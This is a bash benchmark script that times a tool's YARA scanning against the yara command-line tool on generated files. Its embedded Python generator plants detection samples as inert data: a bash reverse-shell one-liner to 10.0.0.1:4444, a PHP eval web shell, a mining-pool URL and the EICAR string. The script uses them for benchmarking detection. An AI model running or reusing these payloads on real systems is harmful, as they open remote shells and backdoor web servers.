#!/bin/bash
# bench_yara: the YARA phase of contain scan against the yara command-line
# tool on the same files with the same rules, whole process, same run, page
# cache warm. The files: 200 MiB in 5,000 files of mixed sizes (a seeded
# log-uniform spread from 1 KiB to ~2 MiB; text-like and random bytes; one
# in 50 holds a string a shipped rule matches), generated once (python3) into
# BENCH_CACHE (default build/bench-yara) as a directory, a tar of it, and a
# bag whose data/fs/upper.tar is that tar. The rules: the shipped ones
# (yara-rules/*.yar) concatenated into one file for yara.
#   yara -r -p 2 RULES DIR          (yara's threads: 2, the CPUs here)
#   contain scan FILES.tar          (read by one thread, scanned by the pool)
#   contain scan BAG                (verified first, then its layer's tar)
#   contain scan DIR                (the safe walk)
# Printed for each: the best wall and CPU seconds of BENCH_RUNS (default 3),
# MB/s, the hits, and the ratio against yara (wall): the tar's must be <= 1.0.
set -u
for c in yara python3 tar bc; do
	command -v "$c" >/dev/null 2>&1 || { echo "bench_yara: no $c (make deps)"; exit 1; }
done
[ -x /usr/bin/time ] || { echo "bench_yara: no /usr/bin/time (apt-get install time)"; exit 1; }
TOP=${CONTAIN_TOP:-$(cd "$(dirname "$0")/../.." && pwd)}
CONTAIN=${CONTAIN:-$TOP/contain}
MKBAG=${MKBAG:-$TOP/build/tests/tools/mkbag}
RUNS=${BENCH_RUNS:-3}
CACHE=${BENCH_CACHE:-$TOP/build/bench-yara}
GEN_VERSION=1
mkdir -p "$CACHE" || exit 1
if [ "$(cat "$CACHE/READY" 2>/dev/null)" != "$GEN_VERSION" ]; then
	echo "bench_yara: generating 200 MiB in 5,000 files in $CACHE (once)"
	rm -rf "$CACHE/files" "$CACHE/files.tar" "$CACHE/bag" "$CACHE/bagsrc" "$CACHE/READY"
	python3 - "$CACHE/files" <<'PY' || exit 1
import os, random, sys
root = sys.argv[1]
rnd = random.Random(11)
N, TOTAL = 5000, 200 << 20
w = [rnd.uniform(0, 11) for _ in range(N)]          # log2 of KiB: 1 KiB .. 2 MiB
raw = [2 ** x for x in w]
scale = TOTAL / sum(raw)
sizes = [max(64, int(r * scale)) for r in raw]
sizes[-1] += TOTAL - sum(sizes)
words = b"the quick brown fox jumps over lazy dogs server request config value user path data ".split()
hits = [b"stratum+tcp://pool.example.test:3333", b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", b"<?php eval($_POST['x']); ?>"]
rb = rnd.randbytes(1 << 20)
for i, sz in enumerate(sizes):
    d = os.path.join(root, "d%02d" % (i % 50), "e%d" % (i % 7))
    os.makedirs(d, exist_ok=True)
    if i % 3 == 0:
        off = rnd.randrange(0, len(rb) - 1)
        body = (rb[off:] + rb)[:sz] if sz <= len(rb) else (rb * (sz // len(rb) + 1))[:sz]
    else:
        line = b" ".join(rnd.choice(words) for _ in range(12)) + b"\n"
        body = (line * (sz // len(line) + 1))[:sz]
    if i % 50 == 7:
        h = hits[(i // 50) % len(hits)]
        p = rnd.randrange(0, max(1, sz - len(h)))
        body = body[:p] + h + body[p + len(h):]
    with open(os.path.join(d, "f%04d.bin" % i), "wb") as f:
        f.write(body[:max(sz, len(body))])
PY
	tar -C "$CACHE/files" -cf "$CACHE/files.tar" . || exit 1
	if [ -x "$MKBAG" ]; then
		if ! { mkdir -p "$CACHE/bagsrc/fs" && ln "$CACHE/files.tar" "$CACHE/bagsrc/fs/upper.tar" &&
			"$MKBAG" -o "$CACHE/bag" "$CACHE/bagsrc" 2>/dev/null; }; then
			echo "bench_yara: mkbag failed"
			exit 1
		fi
	fi
	echo "$GEN_VERSION" >"$CACHE/READY"
fi
RULES=$CACHE/rules.yar
cat "$TOP"/yara-rules/*.yar >"$RULES"
BYTES=$(du -sb "$CACHE/files" | cut -f1)

# best of RUNS: "wall cpu"
best() {
	local b="" out w u s
	for _ in $(seq "$RUNS"); do
		out=$(/usr/bin/time -f '%e %U %S' "$@" 2>&1 >/dev/null | tail -1)
		read -r w u s <<<"$out"
		if [ -z "$b" ] || [ "$(echo "$w < ${b%% *}" | bc)" = 1 ]; then
			b="$w $(echo "$u + $s" | bc)"
		fi
	done
	echo "$b"
}
row() { # name "wall cpu"
	local w=${2%% *} c=${2##* }
	printf '%-34s wall %6.2f s  cpu %6.2f s  %7.1f MB/s' "$1" "$w" "$c" "$(echo "$BYTES / 1000000 / $w" | bc -l)"
}

Y_HITS=$(yara -r -p 2 "$RULES" "$CACHE/files" 2>/dev/null | wc -l)
C_HITS=$("$CONTAIN" scan "$CACHE/files.tar" --json --fail-on none | python3 -c 'import json,sys; print(len([f for f in json.load(sys.stdin)["findings"] if f["id"].startswith("yara.")]))')
echo "bench_yara: $(du -sh "$CACHE/files" | cut -f1) in $(find "$CACHE/files" -type f | wc -l) files; yara matches $Y_HITS, contain findings $C_HITS; best of $RUNS"
YT=$(best yara -r -p 2 "$RULES" "$CACHE/files")
row "yara -r -p 2 RULES DIR" "$YT"; echo
rc=0
for t in "files.tar" "bag" "files"; do
	[ -e "$CACHE/$t" ] || continue
	T=$(best "$CONTAIN" scan "$CACHE/$t" --fail-on none)
	row "contain scan $t" "$T"
	r=$(echo "${T%% *} / ${YT%% *}" | bc -l)
	printf '  ratio %.2f (cpu %.2f)\n' "$r" "$(echo "${T##* } / ${YT##* }" | bc -l)"
	# the issue's bar: the tar at least as fast as yara on the directory
	[ "$t" = files.tar ] && [ "$(echo "$r > 1.0" | bc)" = 1 ] && rc=1
done
[ "$rc" = 0 ] || echo "bench_yara: contain scan of the tar is slower than yara -r -p 2 (ratio > 1.0)"
exit "$rc"
